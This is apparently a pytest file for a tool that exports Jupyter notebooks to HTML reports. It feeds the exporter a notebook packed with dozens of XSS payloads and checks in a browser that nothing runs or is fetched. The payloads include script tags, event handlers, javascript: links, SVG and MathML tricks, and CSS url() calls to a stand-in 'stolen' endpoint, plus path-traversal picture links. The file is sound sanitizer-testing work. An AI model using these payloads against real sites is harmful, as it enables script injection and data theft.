"""A notebook from anyone: nothing in it runs a script, reaches the network or reads other files.

Each report is opened as it is, and again without its Content-Security-Policy, so that what has been
left out is left out for good and not only kept from working.
"""

import re

import nbformat
import pytest
from playwright.sync_api import Page

from tools.common.console import Problem
from tools.reports import export, index_page
from tools.reports.options import ReportOptions

RUN = "window.ran=true;alert(1)"
NETWORK = "http://127.0.0.1:9/stolen"
PIXEL = "data:image/gif;base64,R0lGODlhAQABAAAAACH5BAEKAAEALAAAAAABAAEAAAICTAEAOw=="

MARKDOWN = {
    "script": f"<script>{RUN}</script>",
    "script in a paragraph": f"Hello <script src='{NETWORK}.js'></script> there",
    "handler": f'<img src="none" onerror="{RUN}"> <p onclick="{RUN}" onpointerover={RUN!r}>x</p>',
    "handler that starts by itself": f'<details open ontoggle="{RUN}">x</details>',
    "focus": f'<p tabindex="0" autofocus onfocus="{RUN}">x</p>',
    "link": f"[click](javascript:{RUN}) [or](JaVa&#x09;script:{RUN}) [or](data:text/html,{RUN})",
    "raw link": f'<a href=" java\nscript:{RUN}">x</a> <a href="vbscript:x">y</a>',
    "automatic link": f"<javascript:{RUN}>",
    "alternative text": f'![" onerror="{RUN}](x.png) ![<script>{RUN}</script>](y.png)',
    "title of a link": f"[x](https://example.org '\" onmouseover=\"{RUN}')",
    "frame": f'<iframe srcdoc="<script>{RUN}</script>"></iframe><embed src="{NETWORK}">',
    "object": f'<object data="{NETWORK}.svg" type="image/svg+xml"></object>',
    "form": f'<form action="{NETWORK}"><button formaction="javascript:{RUN}">x</button></form>',
    "head": f'<meta http-equiv="refresh" content="0;url={NETWORK}"><base href="{NETWORK}">',
    "linked style": f'<link rel="stylesheet" href="{NETWORK}.css">',
    "style": f'<style>@import "{NETWORK}.css"; body {{ background: url({NETWORK}) }}</style>',
    "style attribute": f'<p style="background: url({NETWORK}); position: fixed; inset: 0">x</p>',
    "picture": f"![seen by a server]({NETWORK}.png) <img srcset='{NETWORK}.png 2x' alt='q'>",
    "drawing": f'<svg onload="{RUN}"><script>{RUN}</script><a xlink:href="javascript:{RUN}">'
    "<text>x</text></a></svg>",
    "animation": f'<svg><a><animate attributeName="href" values="javascript:{RUN}"/></a></svg>',
    "foreign object": f'<svg><foreignObject><body onload="{RUN}"></foreignObject></svg>',
    "drawing from elsewhere": f'<svg><use href="{NETWORK}.svg#a"/><image href="{NETWORK}.png"/>'
    f'<rect fill="url({NETWORK}.svg#b)" width="9" height="9"/></svg>',
    "formula": f'<math><mtext><table><mglyph><style><img src=x onerror="{RUN}"></style></math>',
    "formula with a link": f'<math href="javascript:{RUN}"><mi xlink:href="javascript:{RUN}">x'
    f'</mi><annotation-xml encoding="text/html"><img src=x onerror="{RUN}"></math>',
    "typed formula": rf"$x \text{{<img src=x onerror='{RUN}'>}}$ $$</math><script>{RUN}</script>$$",
    "formula that links": rf"$\href{{javascript:{RUN}}}{{x}}$",
    "comment": f"<!--><script>{RUN}</script>--> <!-- --!><img src=x onerror='{RUN}'> -->",
    "broken tags": f"<scr<script>ipt>{RUN}</scr</script>ipt> <img/src=x/onerror={RUN!r}//",
    "no script": f'<noscript><p title="</noscript><img src=x onerror={RUN}>"></noscript>',
    "heading": f'# <img src=x onerror="{RUN}">\n\n## "><script>{RUN}</script>',
    "attribute with a tag": f"<p title='<h1 onclick={RUN}>'><img alt='<table onclick={RUN}>'></p>",
    "code block": f'```" onclick="{RUN}\n<script>{RUN}</script>\n```',
    "diagram": f"```mermaid\n</pre><script>{RUN}</script>\n```",
    "names that no file has": f"![x](a%00b.png) ![x](http://[bad) ![x]({'x' * 5000}.png)",
    "declaration": f"<![if x]><!doctype x [<!ENTITY a '{NETWORK}'>]><?xml-stylesheet href='x'?>&a;",
    "media": f'<video src="{NETWORK}.mp4" onerror="{RUN}"></video><audio src="{NETWORK}.mp3">',
}
OUTPUTS = {
    "text/html": f'<div><script>{RUN}</script><img src=x onerror="{RUN}"><h2>Output</h2></div>',
    "text/markdown": f"[x](javascript:{RUN}) <script>{RUN}</script>",
    "image/svg+xml": f'<svg onload="{RUN}"><script>{RUN}</script><circle r="5"/></svg>',
    "text/latex": f"$x$ <script>{RUN}</script>",
    "image/png": f'"><script>{RUN}</script>',
    "application/javascript": RUN,
    "application/vnd.jupyter.widget-view+json": {"model_id": f"</script><script>{RUN}</script>"},
    "text/vnd.mermaid": f"</pre><script>{RUN}</script>",
    "text/plain": f"<script>{RUN}</script>",
}


def evil_notebook():
    """Every way that came to mind; each cell and output is one of them."""
    script = f"</title></code></pre><script>{RUN}</script>"
    new = nbformat.v4
    texts = [new.new_markdown_cell(text) for text in MARKDOWN.values()]
    texts[0].attachments = {"x.png": {"text/html": script, f'image/png"{script}': "AAAA"}}
    outputs = [new.new_output("display_data", {kind: data}) for kind, data in OUTPUTS.items()]
    for output in outputs:
        output.metadata = {"text/html": {"isolated": script}, "image/png": script, "alt": script}
    outputs += [
        new.new_output(
            "stream", name="stdout", text=f"\x1b[31m{script}\x1b]8;;javascript:{RUN}\x07"
        ),
        new.new_output("stream", name="stderr", text=script),
        new.new_output("error", ename=script, evalue=script, traceback=[f"\x1b[1m{script}"]),
        new.new_output("error", ename=script, evalue=script, traceback=[]),
        new.new_output("execute_result", {"text/plain": script}, execution_count=1),
    ]
    code = new.new_code_cell(script, outputs=outputs)
    code.metadata.update(tags=[f'"{script}', "hide-input"], jupyter={"source_hidden": script})
    facts = {script: script, "Java": f'" onclick="{RUN}'}
    metadata = {
        "title": script,
        "language_info": {"name": f'java"{script}', "pygments_lexer": f'java"{script}'},
        "digitlab": {"banner": script, "facts": facts},
        "widgets": {"application/vnd.jupyter.widget-state+json": {"state": script}},
    }
    raw = new.new_raw_cell(script, metadata={"raw_mimetype": "text/html"})
    title = new.new_markdown_cell(f"# Title {script}")
    return new.new_notebook(cells=[title, *texts, code, raw], metadata=metadata)


@pytest.fixture(scope="module")
def evil(tmp_path_factory):
    """The report, and what the command warns of."""
    folder = tmp_path_factory.mktemp("evil")
    warnings = export.write_report(evil_notebook(), folder / "evil.ipynb", folder, ReportOptions())
    return folder / "evil.html", warnings


LEFT = """() => [...document.querySelectorAll('*')].flatMap(e => [
  ...(/^(script|iframe|object|embed|form|input|button|base|animate|image|foreignobject|video|audio)$/i
    .test(e.localName) ? [e.outerHTML] : []),
  ...(e.localName == 'style' && !e.closest('head') ? [e.outerHTML] : []),
  ...(e.localName == 'meta' && !e.closest('head') ? [e.outerHTML] : []),
  ...[...e.attributes].filter(a => /^on/i.test(a.name)
    || a.name == 'href' && !/^(file|https|data):$/.test(e.protocol ?? new URL(e.href).protocol)
    || a.name == 'href' && e.localName == 'a' && e.protocol == 'data:'
    || a.name == 'src' && !a.value.startsWith('data:image/')
    || /^(xlink:href|action|formaction|data|srcset|srcdoc|autofocus)$/i.test(a.name)
    || a.name == 'style' && /url|fixed/.test(a.value)
  ).map(a => `${e.localName} ${a.name}=${a.value}`)])"""


def opened(chromium, file) -> tuple[Page, list[str]]:
    """The page, and whatever it has said or asked for beyond itself."""
    page, seen = chromium.new_page(), []
    page.on("dialog", lambda dialog: (seen.append(dialog.message), dialog.dismiss()))
    page.on("request", lambda request: seen.append(request.url[:100]))
    page.on("console", lambda message: seen.append(message.text))
    page.on("pageerror", lambda error: seen.append(str(error)))
    page.goto(file.as_uri())
    for summary in page.locator("summary:visible").all():
        summary.click()
    page.mouse.move(200, 200)
    page.wait_for_timeout(300)
    return page, [what for what in seen if not what.startswith(("file:", "data:image/"))]


@pytest.mark.parametrize("protected", [True, False])
def test_nothing_runs_and_nothing_is_fetched(chromium, evil, tmp_path, protected):
    html, policy = evil[0].read_text("utf-8"), r"<meta[^>]*Content-Security-Policy[^>]*>"
    if not protected:
        html, count = re.subn(policy, "", html)
        assert count == 1
    file = tmp_path / "evil.html"
    file.write_text(html, "utf-8")
    page, seen = opened(chromium, file)
    assert page.evaluate("window.ran") is None
    assert seen == []
    assert page.evaluate(LEFT) == []
    page.close()


def test_nothing_runs_in_the_index_either(chromium, tmp_path):
    (tmp_path / "evil.html").touch()
    notebook = evil_notebook()
    notebook.cells[-2].metadata.tags = ["headline", "thumbnail", "comparison"]
    index_page.write_index(index_page.entry(notebook, "evil"), tmp_path)
    page, seen = opened(chromium, tmp_path / "index.html")
    assert page.evaluate("window.ran") is None
    assert seen == []
    page.close()


def test_a_script_would_be_noticed(chromium, tmp_path):
    page, seen = chromium.new_page(), []
    page.on("dialog", lambda dialog: (seen.append(dialog.message), dialog.dismiss()))
    page.set_content(f"<p onclick='1'>x</p><script>{RUN}</script>")
    assert seen == ["1"] and page.evaluate("window.ran")
    assert len(page.evaluate(LEFT)) == 2
    page.close()


def test_the_report_and_the_command_say_what_was_left_out(chromium, evil):
    html, warnings = evil
    page = chromium.new_page()
    page.goto(html.as_uri())
    told = " ".join(page.locator("main > .note").all_inner_texts())
    for what in (
        "event handler",
        "harmful link",
        "element <script>",
        "JavaScript output",
        "widget",
    ):
        assert what in told
        assert any(what in warning for warning in warnings)
    assert "picture that is not in the notebook or its folder" in told
    page.close()


def test_what_is_harmless_stays(tmp_path):
    kept = (
        f'<figure><img src="{PIXEL}" alt="A" style="max-width: 100%"><figcaption>C</figcaption>'
        "<details><summary>Data</summary><table><tr><th scope='row'>1</th></tr></table></details>"
        '</figure><svg viewBox="0 0 9 9"><path d="M0 0h9" fill="#123"/></svg> H<sub>2</sub>O'
        '<progress max="1" value="0.5" aria-label="training"></progress><kbd>Shift</kbd>'
    )
    cell = nbformat.v4.new_markdown_cell(kept)
    notebook = nbformat.v4.new_notebook(cells=[cell])
    assert export.write_report(notebook, tmp_path / "kept.ipynb", tmp_path, ReportOptions()) == []
    html = (tmp_path / "kept.html").read_text("utf-8")
    for part in ("<figcaption>", "<details>", "viewbox", "M0 0h9", "<sub>", "<progress", "<kbd>"):
        assert part in html.replace("viewBox", "viewbox")


@pytest.mark.parametrize(
    "name", ["../secret.png", "{folder}/secret.png", "file://{folder}/secret.png"]
)
def test_a_picture_outside_of_the_folder_of_the_notebook_is_not_read(tmp_path, name):
    (tmp_path / "secret.png").write_bytes(b"private")
    inside = tmp_path / "notebooks"
    inside.mkdir()
    markdown = f"![mine]({name.format(folder=tmp_path)})"
    notebook = nbformat.v4.new_notebook(cells=[nbformat.v4.new_markdown_cell(markdown)])
    [warning] = export.write_report(notebook, inside / "spy.ipynb", inside, ReportOptions())
    assert "1 × picture that is not in the notebook or its folder" in warning
    assert "[Picture left out: mine]" in (inside / "spy.html").read_text("utf-8")


def test_a_notebook_that_breaks_the_format_is_refused_in_one_line(tmp_path):
    notebook = evil_notebook()
    notebook.cells[0].id = f'x" onclick="{RUN}'
    with pytest.raises(Problem, match=r"evil\.ipynb is not a valid notebook: .* does not match"):
        export.write_report(notebook, tmp_path / "evil.ipynb", tmp_path, ReportOptions())
